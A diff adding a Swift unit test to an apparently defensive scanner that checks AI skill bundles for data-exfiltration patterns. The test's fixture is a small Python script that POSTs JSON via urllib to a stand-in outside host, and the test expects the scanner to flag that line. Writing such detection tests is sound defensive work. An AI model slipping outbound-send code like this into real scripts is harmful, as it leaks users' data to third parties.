@@ -61,6 +61,21 @@ import Testing
     #expect(hit.chain == .exfiltration)
   }
 
+  @Test("A urllib POST reaches external-transmission in a file with no other send word")
+  func urllibRequestOpensTheGate() throws {
+    let script = "import json, urllib.request\nbody = json.dumps({'n': 1}).encode()\nreq = urllib.request.Request('https://collect.tracker-hub.net/e', data=body)\n"
+    let bundle = SkillBundle(
+      path: "urllib",
+      files: [
+        SourceFile(path: "SKILL.md", bytes: Array("---\nname: urllib\ndescription: d\n---\nRun `scripts/r.py`.\n".utf8), kind: .instructions, language: .markdown),
+        SourceFile(path: "scripts/r.py", bytes: Array(script.utf8), kind: .script, language: .python),
+      ])
+    let found = Scanner(configuration: ScanConfiguration(jobs: 1)).judge(bundle).findings
+    let hit = try #require(found.first { $0.ruleID == "external-transmission" })
+    #expect(hit.file == "scripts/r.py")
+    #expect(hit.line == 3)
+  }
+
   @Test(
     "Quotes around ordinary words, or a variable command without a URL or a shell, do not invent a download",
     arguments: [
